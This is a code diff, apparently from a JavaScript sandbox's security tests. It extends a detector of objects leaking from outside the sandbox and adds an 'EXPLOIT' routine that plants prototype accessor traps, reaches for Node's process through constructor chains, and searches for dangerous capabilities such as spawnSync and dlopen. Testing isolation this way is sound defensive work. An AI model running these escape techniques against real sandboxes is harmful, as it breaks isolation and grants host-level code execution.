@@ -5,13 +5,13 @@
  */
 export const DETECTOR = `
 const { prototype } = Object, protoOf = Object.getPrototypeOf;
-let seen = 0, foreign = 0, escaped = false;
+let seen = 0, foreign = 0, escaped = false, onForeign = () => {};
 const look = (x) => {
 	if (x === null || (typeof x !== "object" && typeof x !== "function")) return;
 	seen++;
 	let top = x;
-	try { for (let i = 0; i < 20; i++) { const next = protoOf(top); if (next === null) break; top = next; } } catch {}
-	if (top !== prototype && (top !== x || typeof x === "function")) foreign++;
+	try { for (let i = 0; i < 20; i++) { const next = protoOf(top); if (next === null) break; top = next; } } catch { return }
+	if (top !== prototype && (top !== x || typeof x === "function")) { foreign++; onForeign(x); }
 	try { if (x.constructor.constructor("return process")().pid) escaped = true; } catch {}
 };
 const report = () => ({ seen, foreign, escaped });
@@ -48,4 +48,52 @@ const names = ["t", "v", "value", "get", "set", "host", "then", "0", "1", "2", "
 for (const key of names) define(prototype, key, { __proto__: null, configurable: true,
 	set(x) { if (on) { on = false; keep(this); keep(x); on = true; } define(this, key, { __proto__: null, value: x, writable: true, configurable: true, enumerable: true }); },
 	get() { return undefined; } });
+`;
+
+/**
+ * What somebody would do with a foreign object: climb to the top of its realm, plant accessors where Node's own code
+ * might read or write, make trusted code run, and search everything within reach for a way to the machine.
+ * `exploit(trigger)` does it with all that `look` has found; `verdict()` tells what came of it.
+ */
+export const EXPLOIT = `
+const found = [];
+onForeign = (x) => { if (found.length < 100) found[found.length] = x; };
+let planted = 0, power = "";
+const climb = (x) => { let top = x; for (let i = 0; i < 20; i++) { const next = protoOf(top); if (next === null) break; top = next; } return top; };
+const strong = ["pid", "binding", "_linkedBinding", "mainModule", "runInThisContext", "runInContext", "createRequire", "setFlagsFromString", "dlopen", "spawnSync", "connect"];
+const search = (start) => {
+	const seen = new Set(), open = [start];
+	while (open.length > 0 && seen.size < 20000) {
+		const x = open.pop();
+		if (x === null || (typeof x !== "object" && typeof x !== "function") || seen.has(x)) continue;
+		seen.add(x);
+		try {
+			open.push(protoOf(x));
+			for (const key of Reflect.ownKeys(x)) {
+				if (strong.includes(key)) power ||= String(key);
+				const d = Object.getOwnPropertyDescriptor(x, key);
+				open.push(d.value, d.get, d.set);
+			}
+		} catch {}
+	}
+};
+const grab = (x) => {
+	if (x === null || typeof x !== "object") return;
+	try { const p = new x.constructor("process").runInThisContext(); if (p?.pid) power ||= "a script"; } catch {}
+	search(x);
+};
+const exploit = (trigger) => {
+	for (const x of found.slice(0, 5)) {
+		const top = climb(x);
+		for (const key of ["sourceMapURL", "errno", "code", "syscall", "get", "set", "value", "then", "length", "position", "0", "1"])
+			try {
+				Object.defineProperty(top, key, { configurable: true, set(v) { planted++; grab(this); grab(v); }, get() { planted++; grab(this); } });
+			} catch {}
+		try { top.constructor.constructor("return process")().pid && (power ||= "a function"); } catch {}
+		trigger();
+		search(x);
+		search(top);
+	}
+};
+const verdict = () => ({ seen, foreign, escaped, planted, power });
 `;
